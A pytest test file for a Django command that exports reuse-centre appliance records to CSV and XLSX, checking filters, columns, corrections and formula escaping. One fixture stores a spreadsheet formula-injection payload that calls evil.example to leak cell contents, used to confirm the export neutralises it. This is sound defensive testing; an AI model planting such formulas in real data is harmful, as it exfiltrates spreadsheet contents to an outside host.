"""``manage.py export_appliances``: one row per appliance for OVAM/Recupel."""

import csv
import datetime
import io

import openpyxl
import pytest
from django.core.management import CommandError, call_command

from repairlocale.reuse import exports
from repairlocale.reuse.exports import APPLIANCE_COLUMNS, safe_text
from repairlocale.reuse.models import Appliance
from repairlocale.reuse.tests.test_inflow import build_scenario

pytestmark = pytest.mark.django_db

HEADER = [c.header for c in APPLIANCE_COLUMNS]
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Philips")'


@pytest.fixture
def scenario(personas):
    scenario = build_scenario(personas)
    Appliance.objects.filter(pk=scenario.b2.pk).update(brand=FORMULA)
    return scenario


def _export(*args):
    out = io.StringIO()
    call_command("export_appliances", *args, stdout=out)
    return out.getvalue()


def _read_csv(path):
    with open(path, newline="", encoding="utf-8") as f:
        reader = csv.DictReader(f)
        rows = list(reader)
    assert reader.fieldnames == HEADER
    return rows


def test_it_writes_one_csv_row_per_appliance_of_the_period(tmp_path, scenario):
    target = tmp_path / "q1.csv"
    message = _export(
        "--since", "2026-01-01", "--until", "2026-03-31", "--output", str(target)
    )
    rows = _read_csv(target)
    assert message.strip() == f"Wrote 12 appliances to {target}."
    assert len(rows) == 12  # 10 of 't Rad and 2 of Hageland; December left out
    assert "RAD-000011" not in {r["code"] for r in rows}
    assert not list(tmp_path.glob("*.part"))


def test_every_column_of_a_sold_appliance_is_filled(tmp_path, personas, scenario):
    target = tmp_path / "out.csv"
    _export("--centre", "RAD", "--output", str(target))
    row = {r["code"]: r for r in _read_csv(target)}[scenario.a2.code]
    assert row == {
        "code": scenario.a2.code,
        "centre": "Kringwinkel 't Rad",
        "site": "Winkel Brugge",
        "intake_date": "2026-01-10",
        "channel": "preserving_collection",
        "municipality_nis": "31005",
        "municipality_name": "Brugge",
        "ords_category_id": str(scenario.a2.product_category.ords_id),
        "ords_category_name": "Kettle",
        "eee_category": "5",
        "device": "Toestel",
        "brand": "Philips",
        "model": "X1",
        "production_year": "",
        "weight_kg": "3.00",
        "status": "sold",
        "rejection_reasons": "",
        "latest_repair_outcome": "Fixed",
        "sold_on": "2026-01-30",
        "sale_price": "35.50",
        "days_to_sale": "20",
    }


def test_rejections_and_repairs_follow_the_corrections(tmp_path, scenario):
    target = tmp_path / "out.csv"
    _export("--centre", "RAD", "--output", str(target))
    rows = {r["code"]: r for r in _read_csv(target)}
    a4, a5 = rows[scenario.a4.code], rows[scenario.a5.code]
    b1, b3 = rows[scenario.b1.code], rows[scenario.b3.code]
    assert a4["rejection_reasons"] == "outdated; rust_damage"
    assert a5["rejection_reasons"] == ""  # rejected, then corrected to accepted
    assert b1["rejection_reasons"] == "contains_crt"  # the other way round
    assert b3["latest_repair_outcome"] == "End of life"  # "Fixed" was corrected
    assert (b3["sold_on"], b3["sale_price"], b3["days_to_sale"]) == ("", "", "")


def test_it_selects_centres_by_id_or_label_prefix(tmp_path, personas, scenario):
    by_pk, by_prefix = tmp_path / "pk.csv", tmp_path / "prefix.csv"
    _export("--centre", str(personas.other.pk), "--output", str(by_pk))
    _export("--centre", "hag", "rad", "--output", str(by_prefix))
    assert {r["code"] for r in _read_csv(by_pk)} == {"HAG-000001", "HAG-000002"}
    assert len(_read_csv(by_prefix)) == 13


def test_an_unknown_centre_or_a_reversed_period_is_refused(personas, scenario):
    with pytest.raises(CommandError, match="No reuse centre 'XYZ'"):
        _export("--centre", "XYZ")
    with pytest.raises(CommandError, match="No reuse centre"):
        _export("--centre", str(personas.hub_org.pk))  # not a reuse centre
    with pytest.raises(CommandError, match="after --until"):
        _export("--since", "2026-03-01", "--until", "2026-01-01")
    with pytest.raises(CommandError, match="not a date"):
        _export("--since", "1 maart")


def test_csv_goes_to_stdout_without_an_output_file(scenario):
    rows = list(csv.reader(io.StringIO(_export("--until", "2025-12-31"))))
    assert rows[0] == HEADER
    assert [r[0] for r in rows[1:]] == ["RAD-000011"]


def test_the_xlsx_file_has_numbers_dates_and_escaped_formulas(tmp_path, scenario):
    target = tmp_path / "appliances.xlsx"
    _export("--centre", "RAD", "--since", "2026-01-01", "--output", str(target))
    sheet = openpyxl.load_workbook(target).active
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == HEADER
    assert len(rows) == 11
    by_code = {row[0]: dict(zip(HEADER, row, strict=True)) for row in rows[1:]}

    b2 = by_code[scenario.b2.code]
    assert b2["brand"] == "'" + FORMULA
    assert b2["intake_date"] == datetime.datetime(2026, 2, 15)
    assert b2["weight_kg"] == 6
    assert b2["sale_price"] == 60
    assert b2["days_to_sale"] == 30
    assert isinstance(b2["ords_category_id"], int)
    assert isinstance(b2["eee_category"], int)
    brand = HEADER.index("brand") + 1
    brands = [row[brand - 1] for row in sheet.iter_rows(min_row=2)]
    assert all(cell.data_type == "s" for cell in brands)  # text, never a formula


def test_xlsx_needs_an_output_file(scenario):
    with pytest.raises(CommandError, match="XLSX needs --output"):
        _export("--format", "xlsx")


def test_rows_stream_in_chunks_without_losing_any(tmp_path, monkeypatch, scenario):
    monkeypatch.setattr(exports, "CHUNK_SIZE", 3)
    target = tmp_path / "out.csv"
    _export("--output", str(target))
    codes = [r["code"] for r in _read_csv(target)]
    assert len(codes) == len(set(codes)) == Appliance.objects.count() == 13


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+32 50 12 34 56", "'+32 50 12 34 56"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("Philips", "Philips"),
        ("", ""),
    ],
)
def test_text_a_spreadsheet_would_run_gets_an_apostrophe(text, safe):
    assert safe_text(text) == safe


def test_the_rows_are_read_in_one_query_with_everything_joined(
    scenario, django_assert_num_queries
):
    queryset = exports.appliances_for_export(since=datetime.date(2026, 1, 1))
    with django_assert_num_queries(1):
        rows = list(exports.appliance_rows(queryset))
    assert len(rows) == 12
